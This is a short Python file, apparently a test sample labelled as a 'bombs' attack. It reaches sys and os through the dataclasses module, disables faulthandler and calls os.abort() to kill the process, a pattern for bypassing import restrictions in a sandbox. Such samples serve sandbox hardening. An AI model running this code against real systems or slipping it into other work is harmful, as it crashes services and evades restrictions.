# attack: os.abort, after the handlers for faults are gone
# family: bombs
# ends: processes
import dataclasses

for module in [dataclasses]:
    module.sys.modules["importlib"].import_module("faulthandler").disable()
    module.inspect.os.abort()
